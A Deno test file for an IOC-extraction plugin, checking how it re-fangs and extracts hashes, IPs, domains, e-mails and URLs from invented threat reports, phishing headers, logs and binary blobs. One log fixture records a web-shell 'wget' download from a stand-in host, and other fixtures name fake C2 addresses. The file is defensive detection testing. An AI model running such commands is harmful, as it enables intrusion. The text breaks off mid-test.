import { deepEqual, equal, match, ok, rejects } from "node:assert/strict";
import iocextract from "../../plugins/iocextract.ts";
import {
  Allowlist,
  ANCHORED,
  anchored,
  BINARY_MIN_STRING,
  DomainValidator,
  extractFromPayload,
  extractIocs,
  type ExtractOptions,
  hexRuns,
  IOC_TYPES,
  payloadText,
  refang,
  WINDOWS,
  type Windows,
} from "../../plugins/lib/ioc/extract.ts";
import type { WorkerResponse } from "../../core/engine/plugin.ts";
import { instantiate, makePayload, makeRequest, sh, tempDir } from "../helpers.ts";
import { errorTexts, input, testEngine } from "../engine/harness.ts";

type Results = Partial<Record<string, string[]>>;

async function scan(
  content: Uint8Array | string,
  options: Record<string, unknown> = {},
): Promise<WorkerResponse & { results: Results }> {
  const { instance, call } = await instantiate(iocextract, options);
  const p = makePayload(content);
  return await instance.scan!(p, makeRequest(p), call) as WorkerResponse & { results: Results };
}

const REPORT =
  `During the intrusion the actor delivered a ZIP via hxxps://docs-share[.]online/download?id=7731 ` +
  `and later beaconed to hxxp://185.174.137[.]81:8080/gate.php. Secondary infrastructure included ` +
  `update-srv[dot]net, cdn(.)fastly-cache{.}info, mirror dot files-cdn dot top and the fallback ` +
  `meow://bad-cdn[.]xyz/a.js (also seen as hxxp[://]bad-cdn[.]xyz/b.js and fxp[:]//drop[.]xyz/c). ` +
  `The dropper (SHA256: 9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08, MD5 ` +
  `098f6bcd4621d373cade4e832627b4f6) wrote C:\\Users\\Public\\log.txt. Stolen data was mailed to ` +
  `exfil[@]proton[.]me and ops (at) tutanota (dot) com. IPv6 C2: 2a03:2880:f10c:83:face:b00c:0:25de.`;

Deno.test("iocextract: a defanged threat report paragraph, re-fanged, in stoQ's key order", async () => {
  const res = await scan(REPORT);
  deepEqual(res, {
    results: {
      md5: ["098f6bcd4621d373cade4e832627b4f6"],
      sha256: ["9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"],
      ipv4: ["185.174.137.81"],
      ipv6: ["2a03:2880:f10c:83:face:b00c:0:25de"],
      email: ["exfil@proton.me", "ops@tutanota.com"],
      domain: [
        "docs-share.online",
        "update-srv.net",
        "cdn.fastly-cache.info",
        "mirror.files-cdn.top",
        "bad-cdn.xyz",
        "drop.xyz",
        "proton.me",
        "tutanota.com",
      ],
      url: [
        "https://docs-share.online/download?id=7731",
        "http://185.174.137.81:8080/gate.php",
        "http://bad-cdn.xyz/a.js",
        "http://bad-cdn.xyz/b.js",
        "ftp://drop.xyz/c",
      ],
    },
  });
  deepEqual(Object.keys(res.results), ["md5", "sha256", "ipv4", "ipv6", "email", "domain", "url"]);
});

Deno.test("iocextract: every documented defang form is re-fanged", () => {
  const cases: [string, string][] = [
    ["hxxp://a.com", "http://a.com"],
    ["HXXPS://a.com", "https://a.com"],
    ["meow://a.com", "http://a.com"],
    ["meows://a.com", "https://a.com"],
    ["hxxp[:]//a.com", "http://a.com"],
    ["hxxps[://]a.com", "https://a.com"],
    ["http[:]//a.com[/]x", "http://a.com/x"],
    ["fxp://a.com", "ftp://a.com"],
    ["a[.]com", "a.com"],
    ["a (.) com", "a.com"],
    ["a{.}com", "a.com"],
    ["a<.>com", "a.com"],
    ["a[dot]com", "a.com"],
    ["a(DOT)com", "a.com"],
    ["a{dot}com", "a.com"],
    ["a dot com", "a.com"],
    ["x[@]a.com", "x@a.com"],
    ["x(@)a.com", "x@a.com"],
    ["x{@}a.com", "x@a.com"],
    ["x [at] a.com", "x@a.com"],
    ["x(at)a.com", "x@a.com"],
    ["x{AT}a.com", "x@a.com"],
    ["x<at>a.com", "x@a.com"],
  ];
  for (const [input, want] of cases) equal(refang(input), want, input);
  // Words that only look like defang tokens stay as they are.
  for (const text of ["the cat says meow.", "connect the dot.", "look at me", "hxxp is a word"]) {
    equal(refang(text), text);
  }
});

const EMAIL = `Return-Path: <billing@invoices-portal.com>
Received: from mail.invoices-portal.com (mail.invoices-portal.com [203.0.113.45])
\tby mx.victim-corp.com (Postfix) with ESMTPS id 4F2A1C0D3E
\tfor <j.doe@victim-corp.com>; Tue, 12 Mar 2024 09:14:22 +0000 (UTC)
Received: from [IPv6:2001:db8:4006:80b::200e] (unknown [198.51.100.7])
\tby mail.invoices-portal.com with ESMTPSA id a1b2c3
\tTue, 12 Mar 2024 09:14:20 +0000
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=invoices-portal.com; s=sel1;
\tbh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;
\tb=dGhpcyBpcyBub3QgYSByZWFsIHNpZ25hdHVyZSBidXQgaXQgbG9va3MgbGlrZSBvbmUK
From: "Billing Team" <billing@invoices-portal.com>
To: John Doe <j.doe@victim-corp.com>
Subject: Overdue invoice #44812
Date: Tue, 12 Mar 2024 09:14:19 +0000
Message-ID: <7d5c1e2a.0b9f@mail.invoices-portal.com>
X-Originating-IP: [198.51.100.7]
X-Mailer: Microsoft Outlook 16.0.5422.1000
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"

Dear John,

Please review the attached statement (invoice_44812.pdf) at
https://invoices-portal.com/view/44812?token=ab12 before Friday.
Questions? Reply to support@invoices-portal.com.

Regards,
Billing
`;

Deno.test("iocextract: an e-mail with headers (Received, DKIM, Message-ID)", async () => {
  deepEqual(await scan(EMAIL), {
    results: {
      ipv4: ["203.0.113.45", "198.51.100.7"],
      ipv6: ["2001:db8:4006:80b::200e"],
      email: [
        "billing@invoices-portal.com",
        "j.doe@victim-corp.com",
        // Message-IDs have an address's shape; stoQ reported them too.
        "7d5c1e2a.0b9f@mail.invoices-portal.com",
        "support@invoices-portal.com",
      ],
      domain: [
        "invoices-portal.com",
        "mail.invoices-portal.com",
        "mx.victim-corp.com",
        "victim-corp.com",
      ],
      url: ["https://invoices-portal.com/view/44812?token=ab12"],
    },
  });
});

const LOG =
  `Mar 12 09:14:22 gw sshd[2211]: Failed password for root from 203.0.113.5 port 52144 ssh2
Mar 12 09:14:25 gw sshd[2211]: Accepted publickey for deploy from 2001:db8:85a3::8a2e:370:7334 port 50022 ssh2
Mar 12 09:15:01 gw dhcpd[900]: DHCPACK on 192.168.1.23 to 3c:22:fb:12:34:56 (laptop-01) via eth0
Mar 12 09:15:02 gw dhcpd[900]: DHCPREQUEST for 192.168.1.24 from 3C-22-FB-AB-CD-EF via eth0
192.0.2.14 - - [12/Mar/2024:09:16:40 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "http://shady-referrer.biz/p?q=1" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.105 Safari/537.36"
192.0.2.14 - - [12/Mar/2024:09:16:41 +0000] "GET /shell.php?cmd=wget%20http://198.51.100.99/x.sh HTTP/1.1" 200 12 "-" "curl/7.88.1"
Mar 12 09:17:00 gw kernel: [UFW BLOCK] IN=eth0 OUT= SRC=45.155.205.233 DST=192.168.1.1 LEN=40
Mar 12 09:18:12 gw named[77]: client 192.0.2.14#53211: query: kq3v9.dyn-dns-evil.top IN A +
Mar 12 09:18:13 gw app[31]: build 4.18.2 loaded /opt/app/lib/setup.py and /usr/lib/libfoo.so.1.2.3
`;

Deno.test("iocextract: a log file (sshd, dhcpd, web access, kernel, named)", async () => {
  deepEqual(await scan(LOG), {
    results: {
      ipv4: [
        "203.0.113.5",
        "192.168.1.23",
        "192.168.1.24",
        "192.0.2.14",
        "198.51.100.99",
        "45.155.205.233",
        "192.168.1.1",
      ],
      ipv6: ["2001:db8:85a3::8a2e:370:7334"],
      mac_address: ["3c:22:fb:12:34:56", "3c-22-fb-ab-cd-ef"],
      domain: ["shady-referrer.biz", "kq3v9.dyn-dns-evil.top"],
      url: ["http://shady-referrer.biz/p?q=1", "http://198.51.100.99/x.sh"],
    },
  });
});

Deno.test("iocextract: look-alikes that must not match", async () => {
  const text = [
    "Attachments: invoice.pdf, report.docx, setup.exe, photo.jpeg, archive.tar.gz, data.csv",
    "Versions: 1.2.3, v2.10.4, 6.1.7601.17514, 10.0.19041.1, 1.2.3.4.5, build 2.4",
    "Hex: d41d8cd98f00b204e9800998ecf8427ef (33) d41d8cd98f00b204e9800998ecf842 (30)",
    "Hex: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855a (65)",
    "Not IPs: 999.1.1.1 256.256.256.256 1.2.3 010.001.002.003 1.2.3.456",
    "Not IPv6: :: std::vector Foo::Bar 12:30:45 a::",
    "Not MACs: 00:11:22:33:44 00:11:22:33:44:55:66 00:11-22:33:44:55",
    "Not domains: foo.notatld localhost a.b co.uk self.x",
    "Not e-mails: root@localhost user@host.invalidtld @example",
    "Not URLs: http://localhost/x https://999.1.1.1/ http:// http://localhost:99999/",
    "Placeholders: 0000000000000000000000000000000000000000 ffffffffffffffffffffffffffffffff",
  ].join("\n");
  deepEqual(await scan(text), { results: {} });
});

Deno.test("iocextract: hashes are bounded by any non-hex character, not only by non-word ones", async () => {
  deepEqual(
    await scan("file_d41d8cd98f00b204e9800998ecf8427e.bin xd41d8cd98f00b204e9800998ecf8427f"),
    {
      results: { md5: ["d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427f"] },
    },
  );
});

Deno.test("iocextract: foo.bar IS a domain: .bar is an ICANN gTLD in tldts' public suffix list", async () => {
  // The brief listed foo.bar as a non-domain; the public suffix list disagrees, and the list wins.
  deepEqual(await scan("see foo.bar and file.exe"), { results: { domain: ["foo.bar"] } });
});

/** A small deterministic PRNG so that the noise is the same on every run. */
function mulberry32(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

Deno.test("iocextract: binary noise with embedded ASCII and UTF-16LE strings", async () => {
  const rnd = mulberry32(1);
  const noise = () => Uint8Array.from({ length: 20_000 }, () => Math.floor(rnd() * 256));
  const ascii = (s: string) => new TextEncoder().encode(`\0${s}\0`);
  const wide = (s: string) => {
    const out = new Uint8Array(2 * s.length + 4);
    for (let i = 0; i < s.length; i++) out[2 + 2 * i] = s.charCodeAt(i);
    return out;
  };
  const parts = [
    noise(),
    ascii("http://malware-drop.example.net/stage2.bin"),
    noise(),
    wide("https://c2.evil-panel.org/api/beacon"),
    noise(),
    ascii("C2=198.51.100.23;key=5d41402abc4b2a76b9719d911017c592"),
    noise(),
    wide("admin@evil-panel.org"),
    noise(),
  ];
  const bytes = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    bytes.set(p, at);
    at += p.length;
  }
  // Random bytes can still form a short "domain" such as "j.bo" (see BINARY_MIN_STRING): of the
  // seeds 1 to 14, five give one or two in these 100 kB. Seed 1 gives none.
  deepEqual(await scan(bytes), {
    results: {
      md5: ["5d41402abc4b2a76b9719d911017c592"],
      ipv4: ["198.51.100.23"],
      email: ["admin@evil-panel.org"],
      domain: ["malware-drop.example.net", "c2.evil-panel.org", "evil-panel.org"],
      url: ["http://malware-drop.example.net/stage2.bin", "https://c2.evil-panel.org/api/beacon"],
    },
  });
});

/** binutils `strings -a -t d -n N` (and `-el`) records. */
async function binutilsStrings(path: string, wide: boolean) {
  const args = ["-a", "-t", "d", "-n", String(BINARY_MIN_STRING), ...(wide ? ["-el"] : []), path];
  const lines = (await sh("strings", args)).split("\n");
  lines.pop();
  return lines.map((l) => {
    const m = /^ *(\d+) (.*)$/s.exec(l)!;
    return { offset: Number(m[1]), string: m[2] };
  });
}

Deno.test("iocextract: a real binary gives the IOCs of its binutils strings", async () => {
  const path = "/usr/bin/ls";
  const res = await scan(await Deno.readFile(path));
  ok(res.results.email?.includes("bug-coreutils@gnu.org"));
  ok(res.results.url?.includes("https://www.gnu.org/software/coreutils/"));
  // The same text, made by the real tool, scanned as a text payload, gives the same result.
  const records = [...await binutilsStrings(path, false), ...await binutilsStrings(path, true)]
    .sort((a, b) => a.offset - b.offset);
  const text = records.map((r) => r.string).join("\n");
  deepEqual(await scan(text), res);
  // ELF section names (".data.rel.ro", ".note.gnu.property") are not domains.
  ok(!res.results.domain?.some((d) => d.includes("rel.ro") || d.includes("gnu.property")));
});

Deno.test("iocextract: Windows-1252 and UTF-16 text", async () => {
  // “smart quotes” (0x93/0x94) make this invalid UTF-8; they must not stick to the URL.
  const cp = new Uint8Array([
    ...new TextEncoder().encode("Visit "),
    0x93,
    ...new TextEncoder().encode("http://caf\x65-evil.com/m"),
    0x94,
    ...new TextEncoder().encode(" now"),
  ]);
  deepEqual(await scan(cp), {
    results: { domain: ["cafe-evil.com"], url: ["http://cafe-evil.com/m"] },
  });
  const text = "Mail ops@evil-panel.org from 203.0.113.9";
  const le = new Uint8Array(2 + 2 * text.length);
  le.set([0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) le[2 + 2 * i] = text.charCodeAt(i);
  const want = {
    results: { ipv4: ["203.0.113.9"], email: ["ops@evil-panel.org"], domain: ["evil-panel.org"] },
  };
  deepEqual(await scan(le), want);
  const utf8 = `Grüße an ops@evil-panel.org von 203.0.113.9 — danke`;
  deepEqual(await scan(utf8), want);
});

Deno.test("iocextract: allowlist lines (CIDR, domain suffix, url, e-mail, hashes, MAC)", async () => {
  const text = [
    "10.1.2.3 11.0.0.1 192.168.5.5 2001:db8::1 2001:db9::1",
    "www.example.com example.com notexample.com evil.org cdn.good-cdn.net",
    "http://www.example.com/x http://cdn.good-cdn.net/y http://10.9.9.9/z http://evil.org/",
    "alice@corp.com bob@corp.com eve@mail.partner.org mallory@evil.org",
    "D41D8CD98F00B204E9800998ECF8427E 098f6bcd4621d373cade4e832627b4f6",
    "00:11:22:33:44:55 00-11-22-33-44-66",
  ].join("\n");
  const res = await scan(text, {
    allowlist: [
      "ipv4:10.0.0.0/8",
      "ipv4:192.168.5.5",
      "ipv6:2001:db8::/32",
      "domain:.example.com",
      "url:good-cdn.net",
      "email:alice@corp.com",
      "email:@partner.org",
      "md5:d41d8cd98f00b204e9800998ecf8427e",
      "mac_address:00-11-22-33-44-55",
      "# a comment",
      "",
    ],
  });
  deepEqual(res, {
    results: {
      md5: ["098f6bcd4621d373cade4e832627b4f6"],
      ipv4: ["11.0.0.1"],
      ipv6: ["2001:db9::1"],
      mac_address: ["00-11-22-33-44-66"],
      email: ["bob@corp.com", "mallory@evil.org"],
      // url: lines cover URLs only, so the bare domain cdn.good-cdn.net is still reported.
      domain: [
        "notexample.com",
        "evil.org",
        "cdn.good-cdn.net",
        "corp.com",
        "mail.partner.org",
      ],
      url: ["http://evil.org/"],
    },
  });
});

Deno.test("iocextract: allowlist_file with comments is read at load time", async () => {
  const dir = await tempDir();
  const file = `${dir}/allow.txt`;
  await Deno.writeTextFile(
    file,
    "# stoQ whitelist.txt format\nipv4:203.0.113.0/24  # documentation range\n\ndomain:.gov\n",
  );
  deepEqual(
    await scan("203.0.113.7 198.51.100.1 www.cisa.gov evil.com", { allowlist_file: file }),
    { results: { ipv4: ["198.51.100.1"], domain: ["evil.com"] } },
  );
});

Deno.test("iocextract: an invalid allowlist line is an option error naming the line", async () => {
  const bad: [string, RegExp][] = [
    ["ipv4:10.0.0.0/33", /entry 1 .*not an IPv4 address or CIDR/],
    ["ipv4:999.0.0.1", /not an IPv4/],
    ["ipv6:2001:db8::/129", /not an IPv6/],
    ["domain:exa mple.com", /not a domain suffix/],
    ["md5:abc", /not a md5 \(32 hex digits\)/],
    ["sha256:d41d8cd98f00b204e9800998ecf8427e", /not a sha256/],
    ["mac_address:00:11:22", /not a MAC address/],
    ["email:not an address@", /"not an address@" is not an e-mail address/],
    ["email:@bad..suffix", /neither an e-mail address nor a domain suffix/],
    ["hostname:evil.com", /unknown type "hostname".*md5, sha1/],
    ["10.0.0.1", /unknown type "10.0.0.1"/],
    ["ipv4:", /no pattern after "ipv4:"/],
  ];
  for (const [line, re] of bad) {
    await rejects(
      instantiate(iocextract, { allowlist: [line] }),
      (e: Error) => {
        match(e.message, /^iocextract: option allowlist, entry 1 /);
        match(e.message, re);
        return true;
      },
      line,
    );
  }
  const dir = await tempDir();
  await Deno.writeTextFile(`${dir}/a.txt`, "ipv4:10.0.0.0/8\n# ok\nsha1:xyz\n");
  await rejects(
    instantiate(iocextract, { allowlist_file: `${dir}/a.txt` }),
    /allowlist_file .*a\.txt, line 3 \("sha1:xyz"\): "xyz" is not a sha1/,
  );
  await rejects(
    instantiate(iocextract, { allowlist_file: `${dir}/missing.txt` }),
    /cannot read allowlist_file .*missing\.txt/,
  );
});

Deno.test("iocextract: types limits what is reported; order stays stoQ's", async () => {
  deepEqual(await scan(REPORT, { types: ["url", "md5"] }), {
    results: {
      md5: ["098f6bcd4621d373cade4e832627b4f6"],
      url: [
        "https://docs-share.online/download?id=7731",
        "http://185.174.137.81:8080/gate.php",
        "http://bad-cdn.xyz/a.js",
        "http://bad-cdn.xyz/b.js",
        "ftp://drop.xyz/c",
      ],
    },
  });
  await rejects(instantiate(iocextract, { types: [] }), /types/);
  await rejects(instantiate(iocextract, { types: ["hostname"] }), /types/);
});

Deno.test("iocextract: max_per_type keeps the first values and says so in errors", async () => {
  const ips = Array.from({ length: 1500 }, (_, i) => `10.0.${i >> 8}.${i & 255}`);
  const text = ips.join(" ") + " " + ips.join(" ") + " evil.com";
  const res = await scan(text);
  deepEqual(res.results.ipv4, ips.slice(0, 1000));
  deepEqual(res.results.domain, ["evil.com"]);
  deepEqual(res.errors, [
    "iocextract: more than 1000 unique ipv4 values; kept the first 1000 (raise max_per_type to keep more)",
  ]);
  const small = await scan(text, { max_per_type: 3 });
  deepEqual(small.results.ipv4, ips.slice(0, 3));
  match(String(small.errors), /more than 3 unique ipv4 values/);
  // Exactly at the cap is not over it.
  const exact = await scan(ips.slice(0, 3).join(" "), { max_per_type: 3 });
  deepEqual(exact, { results: { ipv4: ips.slice(0, 3) } });
});

Deno.test("iocextract: a 5 MB payload, with pathological runs, is scanned correctly", async () => {
  const lines: string[] = [];
  let size = 0;
  for (let i = 0; size < 4 * 1024 * 1024; i++) {
    const line = `2024-03-12T09:${String(i % 60).padStart(2, "0")}:00Z conn from ` +
      `198.51.${(i >> 8) & 255}.${i & 255} to hxxp://host${i % 500}[.]evil-cdn[.]com/p?i=${i} ` +
      `ua=Mozilla/5.0 time=12:30:45 v=1.2.3\n`;
    lines.push(line);
    size += line.length;
  }
  // Runs that make naive regexes backtrack: long label runs, dotted runs, colons, hex, brackets.
  const hostile = [
    "a".repeat(200_000),
    "a.".repeat(100_000),
    ":".repeat(100_000),
    "f".repeat(100_000),
    "1.".repeat(100_000),
    "http://x.com/" + ")".repeat(100_000),
    "x@".repeat(100_000),
    "[.]".repeat(50_000),
    "x@" + "-".repeat(100_000) + "a",
    "a:" + ".".repeat(100_000) + "1",
    "0:" + "0.".repeat(100_000),
  ].join(" ");
  const text = lines.join("") + hostile + " final.evil-cdn.com";
  ok(text.length > 5 * 1024 * 1024);
  const res = await scan(text, { max_per_type: 100_000 });
  // One URL per line, and the hostile run's http://x.com/ without its closing parentheses.
  equal(res.results.url?.length, lines.length + 1);
  equal(res.results.url?.at(-1), "http://x.com/");
  equal(res.results.url?.[0], "http://host0.evil-cdn.com/p?i=0");
  equal(res.results.ipv4?.length, Math.min(lines.length, 65536));
  // host0..host499.evil-cdn.com, x.com and final.evil-cdn.com.
  equal(res.results.domain?.length, 502);
  equal(res.results.domain?.at(-1), "final.evil-cdn.com");
  deepEqual(Object.keys(res.results), ["ipv4", "domain", "url"]);
  equal(res.errors, undefined);
});

Deno.test("iocextract: through the engine, with options given as --plugin-opts strings", async () => {
  const e = await testEngine({
    plugins: [iocextract],
    cliOptions: {
      iocextract: {
        allowlist: "ipv4:10.0.0.0/8,domain:.example.com",
        types: "ipv4,domain,url",
        max_per_type: "2",
      },
    },
  });
  const r = await e.scan([
    input("hxxp://www.example[.]com/a 10.0.0.5 hxxp://evil[.]com/b 1.1.1.1 2.2.2.2 3.3.3.3"),
  ], { start_dispatch: ["iocextract"] });
  deepEqual(r.results[0].workers.iocextract, {
    ipv4: ["1.1.1.1", "2.2.2.2"],
    domain: ["evil.com"],
    url: ["http://evil.com/b"],
  });
  deepEqual(errorTexts(r), [
    "iocextract: more than 2 unique ipv4 values; kept the first 2 (raise max_per_type to keep more)",
  ]);
  const bad = await testEngine({
    plugins: [iocextract],
    cliOptions: { iocextract: { allowlist: "ipv4:10.0.0.0/8,ipv4:10.0.0.0/99" } },
  });
  const failed = await bad.scan([input("x")], { start_dispatch: ["iocextract"] });
  equal(failed.errors.length, 1);
  match(
    failed.errors[0].error,
    /plugin "iocextract" failed to start: .*iocextract: option allowlist, entry 2 \("ipv4:10\.0\.0\.0\/99"\): "10\.0\.0\.0\/99" is not an IPv4 address or CIDR range$/,
  );
});

// Deterministic strings over the characters that decide token edges, so that every edge case of
// the anchored scans and of the refang pre-checks comes up many times.
function fuzzTexts(alphabet: string[], count: number, maxLen: number): string[] {
  let seed = 0x2545f491;
  const next = () => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32;
  const texts: string[] = [];
  for (let i = 0; i < count; i++) {
    let t = "";
    const len = Math.floor(next() * maxLen);
    for (let j = 0; j < len; j++) t += alphabet[Math.floor(next() * alphabet.length)];
    texts.push(t);
  }
  return texts;
}

Deno.test("iocextract: the anchored scans find exactly what the global regexes find", () => {
  const alphabet = [..."aAfFgGzZ09_-.:@%+ /\\x", "a".repeat(40), "f".repeat(31), "0".repeat(33)];
  let matches = 0;
  for (const text of fuzzTexts(alphabet, 3000, 120)) {
    for (const [kind, [re, anchor, inToken]] of Object.entries(ANCHORED)) {
      const want = [...text.matchAll(new RegExp(re.source, "g"))].map((m) => [m.index, m[0]]);
      const got = [...anchored(text, re, anchor, inToken)].map((m) => [m.index, m[0]]);
      deepEqual(got, want, `${kind} in ${JSON.stringify(text)}`);
      matches += want.length;
    }
    const hex = [...text.matchAll(/(?<![0-9a-fA-F])[0-9a-fA-F]{32,}/g)].map((m) => m[0]);
    deepEqual([...hexRuns(text)].map((r) => r.value), hex, JSON.stringify(text));
    matches += hex.length;
  }
  ok(matches > 10_000, `only ${matches} matches: the fuzz texts are too tame`);
});

Deno.test("iocextract: refang's skipped passes could not have matched", () => {
  // Every pass applied unconditionally, as refang did before its pre-checks.
  const passes: [RegExp, string][] = [
    [/\b(?:hxxp|hxtp|htxp|meow)s(?=\[:|\(:|\{:|:)/gi, "https"],
    [/\b(?:hxxp|hxtp|htxp|meow)(?=\[:|\(:|\{:|:)/gi, "http"],
    [/\bfxp(?=\[:|\(:|\{:|:)/gi, "ftp"],
    [/\[:\/\/\]/g, "://"],
    [/\[:\]|\(:\)|\{:\}/g, ":"],
    [/\[\/\]/g, "/"],
    [/[ \t]?(?:\[\.\]|\(\.\)|\{\.\}|<\.>|\[dot\]|\(dot\)|\{dot\}|<dot>)[ \t]?/gi, "."],
    [/(?<=[A-Za-z0-9]) dot (?=[A-Za-z0-9])/gi, "."],
    [/[ \t]?(?:\[@\]|\(@\)|\{@\}|<@>|\[at\]|\(at\)|\{at\}|<at>)[ \t]?/gi, "@"],
  ];
  const alphabet = [
    ..."[](){}<>:/.@ \tx",
    "hxxp",
    "HxTp",
    "htxps",
    "meow",
    "fXp",
    "dot",
    "DoT",
    "at",
    "AT",
    " dot ",
  ];
  let changed = 0;
  for (const text of fuzzTexts(alphabet, 5000, 40)) {
    let want = text;
    for (const [re, to] of passes) want = want.replace(re, to);
    equal(refang(text), want, JSON.stringify(text));
    if (want !== text) changed++;
  }
  ok(changed > 1000, `only ${changed} texts re-fanged: the fuzz texts are too tame`);
});

// --- windowed extraction -------------------------------------------------------------------------

function extractOptions(maxPerType = 1000, allow: string[] = []): ExtractOptions {
  const allowlist = new Allowlist();
  for (const line of allow) equal(allowlist.add(line), undefined, line);
  return { types: IOC_TYPES, maxPerType, allowlist, domains: new DomainValidator() };
}

/** The whole-payload extraction the worker did before it went a window at a time. */
function wholePayload(bytes: Uint8Array, opts: ExtractOptions) {
  return extractIocs(refang(payloadText(bytes)), opts);
}

// Windows of a few bytes, whose pieces are only cut after line breaks and quotes.
const WINDOW_SIZES: Windows[] = [1, 2, 3, 7, 16, 64, 251].map((bytes) => ({
  bytes,
  maxChars: 1 << 20,
}));
// Pieces that reach their limit between two line breaks, and are cut at a free-standing space.
const SHORT_PIECES: Windows[] = [
  { bytes: 1, maxChars: 30 },
  { bytes: 7, maxChars: 40 },
  { bytes: 16, maxChars: 32 },
];

Deno.test("iocextract: a URL straddling the edge of a window is found whole", () => {
  const url = "hxxps://files-cdn[.]top/payload/stage2.bin?id=42";
  const text = `${"word ".repeat(12)}see ${url} and 10.1.2.3\n`;
  const edge = text.indexOf("files-cdn"); // the window edge falls inside the host name
  const bytes = new TextEncoder().encode(text);
  const want = {
    results: {
      ipv4: ["10.1.2.3"],
      domain: ["files-cdn.top"],
      url: ["https://files-cdn.top/payload/stage2.bin?id=42"],
    },
    capped: [],
  };
  deepEqual(extractFromPayload(bytes, extractOptions(), { bytes: edge, maxChars: 1 << 20 }), want);
  // No line break before the URL: the piece is cut at a free-standing space instead.
  deepEqual(extractFromPayload(bytes, extractOptions(), { bytes: edge, maxChars: 16 }), want);
  deepEqual(wholePayload(bytes, extractOptions()), want);
});

Deno.test("iocextract: a window at a time gives exactly the whole-payload result", () => {
  // Tokens that make IOCs, defanged forms and their edges, multi-byte characters (split between
  // windows), and the characters pieces are cut after.
  const alphabet = [
    ..." \t\n\r\"'.:/@[](){}<>-_%",
    "é",
    "€",
    "😀",
    "zz zz",
    "example",
    "files-cdn",
    ".com",
    ".top",
    "[.]",
    "(dot)",
    " dot ",
    "[at]",
    " (at) ",
    "hxxp://",
    "meow[:]//",
    "https://",
    "10.20.30.",
    "44",
    "fe80::1:2",
    "00:1a:2b:3c:4d:5e",
    "user",
    "098f6bcd4621d373cade4e832627b4f6",
    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "AbCd",
  ];
  const enc = new TextEncoder();
  let found = 0;
  let checked = 0;
  for (const text of fuzzTexts(alphabet, 400, 60)) {
    const bytes = enc.encode(text);
    const want = wholePayload(bytes, extractOptions(3));
    for (const w of WINDOW_SIZES) {
      deepEqual(extractFromPayload(bytes, extractOptions(3), w), want, JSON.stringify(text));
      checked++;
    }
    found += Object.values(want.results).reduce((n, v) => n + (v?.length ?? 0), 0);
    // "zz zz" every 12 characters: a free-standing space in every stretch longer than a piece.
    const spaced = enc.encode(text.replace(/[^]{12}/g, "$&zz zz"));
    const spacedWant = wholePayload(spaced, extractOptions(3));
    for (const w of SHORT_PIECES) {
      deepEqual(extractFromPayload(spaced, extractOptions(3), w), spacedWant, JSON.stringify(text));
      checked++;
    }
    found += Object.values(spacedWant.results).reduce((n, v) => n + (v?.length ?? 0), 0);
  }
  ok(found > 500, `only ${found} IOCs found: the fuzz texts are too tame`);
  ok(checked === 400 * (WINDOW_SIZES.length + SHORT_PIECES.length));
});

Deno.test("iocextract: windows over Windows-1252, UTF-16 and binary payloads match the whole", () => {
  const lines = [
    "see hxxp://bad-cdn[.]xyz/a.js and 185.174.137.81",
    "mail ops (at) tutanota (dot) com, 098f6bcd4621d373cade4e832627b4f6",
    "C2 2a03:2880:f10c:83:face:b00c:0:25de and http://[2001:db8::1]:8080/x",
  ];
  const text = lines.join("\n");
  const cp1252 = new Uint8Array([...new TextEncoder().encode(text), 0x93, 0x0a, 0x41]);
  const utf16le = new Uint8Array([0xff, 0xfe, ...[...text].flatMap((c) => [c.charCodeAt(0), 0])]);
  const utf16be = new Uint8Array([0xfe, 0xff, ...[...text].flatMap((c) => [0, c.charCodeAt(0)])]);
  // Binary: the lines as ASCII and as UTF-16LE strings between runs of zero and noise bytes.
  const binary: number[] = [];
  for (const [i, line] of lines.entries()) {
    binary.push(0, 0, 1, 0xff, 0, ...new TextEncoder().encode(line), 0, 7);
    binary.push(...[...line].flatMap((c) => [c.charCodeAt(0), 0]), i % 2 ? 0 : 5, 0, 0);
  }
  const cases = { cp1252, utf16le, utf16be, binary: new Uint8Array(binary) };
  for (const [name, bytes] of Object.entries(cases)) {
    const want = wholePayload(bytes, extractOptions());
    ok((want.results.url?.length ?? 0) >= 2, `${name}: ${JSON.stringify(want)}`);
    for (const w of WINDOW_SIZES) {
      deepEqual(extractFromPayload(bytes, extractOptions(), w), want, `${name} ${w.bytes}`);
    }
  }
});

Deno.test("iocextract: caps and the allowlist hold across windows, caps reported in pass order", () => {
  const lines: string[] = [];
  for (let i = 0; i < 40; i++) {
    lines.push(`http://h${i}.example.com/ 10.0.0.${i} 192.168.1.${i} u${i}@example.org`);
  }
  const bytes = new TextEncoder().encode(lines.join("\n"));
  const allow = ["ipv4:192.168.0.0/16"];
  const want = wholePayload(bytes, extractOptions(5, allow));
  deepEqual(want.capped, ["ipv4", "email", "domain", "url"]);
  equal(want.results.ipv4?.[4], "10.0.0.4");
  for (const w of WINDOW_SIZES) {
    deepEqual(extractFromPayload(bytes, extractOptions(5, allow), w), want);
  }
});

Deno.test("iocextract: the worker's 1 MiB windows lose no IOC straddling their edges", async () => {
  const edge = WINDOWS.bytes;
  const url = (i: number) => `hxxps://cdn${i}.files-cdn[.]top/p/${"x".repeat(40)}?id=${i}`;
  // Filler lines, then each URL placed so that a window edge falls in its middle, on a line far
  // longer than the rest (the piece waits for its line break).
  let text = "";
  for (let i = 1; i <= 2; i++) {
    while (text.length < i * edge - 30_000) text += "lorem ipsum dolor sit amet 10.9.8.7\n";
